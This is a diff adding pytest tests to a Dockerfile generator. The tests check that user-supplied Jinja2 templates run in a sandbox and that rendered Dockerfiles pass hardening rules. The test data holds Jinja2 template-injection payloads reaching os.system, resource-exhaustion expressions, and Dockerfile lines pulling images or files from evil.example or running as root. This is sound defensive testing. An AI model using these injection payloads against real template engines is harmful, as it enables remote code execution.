@@ -228,3 +228,87 @@ def test_explain_sees_through_mapped_spellings(tmp_path: Path) -> None:
     proc = run_cgen(["explain", "shop/api", "[::ffff:169.254.169.254]:443", "."], cwd=project)
     assert proc.returncode == 3, proc.stdout + proc.stderr
     assert "169.254.169.254/32 is excluded (egressExcept)" in proc.stdout
+
+
+# -- class 2: a project's own template runs in a sandbox and its output is checked ----------
+
+EXTENDS = '{% extends "base.Dockerfile.j2" %}\n{% block build %}\n'
+HOSTILE_TEMPLATES = [
+    (EXTENDS + "RUN echo {{ ''.__class__.__mro__ }}\n{% endblock %}\n", 3, "'__class__'"),
+    (
+        EXTENDS + "RUN {{ cycler.__init__.__globals__.os.system('id') }}\n{% endblock %}\n",
+        3,
+        "'__init__'",
+    ),
+    (EXTENDS + "RUN {{ joiner.__call__.__globals__ }}\n{% endblock %}\n", 3, "unsafe"),
+    (EXTENDS + "RUN {{ self._TemplateReference__context }}\n{% endblock %}\n", 3, "unsafe"),
+    (EXTENDS + "RUN {{ range.__self__ }}\n{% endblock %}\n", 3, "has no attribute"),
+    (EXTENDS + "RUN echo {{ 'x' * 100000000 }}\n{% endblock %}\n", 3, "product too large"),
+    (EXTENDS + "RUN echo {{ ((2 ** 64) ** 64) ** 64 }}\n{% endblock %}\n", 3, "power too large"),
+    ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}\n", 1, "RecursionError"),
+    ("{{ lipsum(100000000) }}\n", 1, "'lipsum' is undefined"),
+    ("{{ no_such_value }}\n", 1, "'no_such_value' is undefined"),
+]
+
+
+def _with_template(project: Path, text: str) -> None:
+    folder = project / "own" / "templates"
+    folder.mkdir(exist_ok=True)
+    (folder / "python.Dockerfile.j2").write_text(text, encoding="utf-8")
+
+
+@pytest.mark.parametrize(("text", "line", "needle"), HOSTILE_TEMPLATES)
+def test_a_hostile_template_cannot_run_code(
+    tmp_path: Path, text: str, line: int, needle: str
+) -> None:
+    project = rendered_project(tmp_path)
+    marker = tmp_path / "pwned"
+    _with_template(project, text.replace("'id'", f"'touch {marker}'"))
+    proc = refused(project, "own/templates/python.Dockerfile.j2", "template: ", needle)
+    assert f"own/templates/python.Dockerfile.j2:{line}:" in proc.stderr
+    assert not marker.exists()
+
+
+HARDENING = [
+    ("FROM {{ runtime_image }}\nUSER 0\n", 2, "USER: '0' in the final stage"),
+    ("FROM {{ runtime_image }}\nUSER root\n", 2, "USER: 'root' in the final stage"),
+    ("FROM {{ runtime_image }}\nUSER 65532:0\n", 2, "USER: '65532:0' in the final stage"),
+    ("FROM {{ runtime_image }} AS r\nUSER 65532:65532\nUSER \\\n  0\n", 3, "USER: '0'"),
+    ("FROM {{ runtime_image }}\n", 1, "USER: the final stage sets no numeric USER"),
+    ("FROM evil.example/x:1\nUSER 1:1\n", 1, "FROM: uses 'evil.example/x:1'"),
+    ("FROM {{ runtime_image.split('@')[0] }}\nUSER 1:1\n", 1, "FROM: uses 'gcr.io/distroless"),
+    ("FROM --platform=$BUILDPLATFORM ${BASE}\nUSER 1:1\n", 1, "FROM: uses '${BASE}'"),
+    ("FROM {{ runtime_image }}\nADD https://evil.example/x /x\nUSER 1:1\n", 2, "ADD: fetches"),
+    ("FROM {{ runtime_image }}\nADD git@github.com:a/b /x\nUSER 1:1\n", 2, "ADD: fetches"),
+    ("FROM {{ runtime_image }}\nRUN --security=insecure id\nUSER 1:1\n", 2, "RUN: lifts"),
+    ("# syntax=evil/frontend:1\nFROM {{ runtime_image }}\nUSER 1:1\n", 1, "syntax: names"),
+    ("# escape=`\nFROM {{ runtime_image }}\nUSER 1:1\n", 1, "escape: must not change"),
+    ("FROM {{ runtime_image }}\nRUN echo '\x01'\nUSER 1:1\n", 2, "RUN: holds the control"),
+    ("FROM {{ runtime_image }}\nRUN echo {{ '%c' % 27 }}\nUSER 1:1\n", 2, "U+001B"),
+    ("FROM {{ runtime_image }}\nLABEL a={{ '\\u202e' }}\nUSER 1:1\n", 2, "U+202E"),
+]
+
+
+@pytest.mark.parametrize(("text", "line", "needle"), HARDENING)
+def test_template_output_is_checked_like_any_dockerfile_line(
+    tmp_path: Path, text: str, line: int, needle: str
+) -> None:
+    project = rendered_project(tmp_path)
+    _with_template(project, text)
+    proc = refused(project, "own/templates/python.Dockerfile.j2", needle)
+    assert f"own/templates/python.Dockerfile.j2:{line}:1: " in proc.stderr
+    assert 'rendered for service "api"' in proc.stderr
+
+
+def test_a_template_that_follows_the_hardening_renders(tmp_path: Path) -> None:
+    project = rendered_project(tmp_path)
+    text = (
+        "# syntax=docker/dockerfile:1.7\nFROM {{ build_image }} AS build\n"
+        "RUN <<EOF\nUSER root\nEOF\nFROM {{ runtime_image }}\n"
+        "COPY --from=build /app /app\nUSER {{ uid }}:{{ uid }}\n"
+        "ENTRYPOINT {{ entrypoint_json }}\n"
+    )
+    _with_template(project, text)
+    run_cgen(["render", "."], cwd=project, check=True)
+    written = (project / "out" / "shop" / "api" / "Dockerfile").read_text()
+    assert "USER 65532:65532\n" in written and "RUN <<EOF\nUSER root\nEOF\n" in written
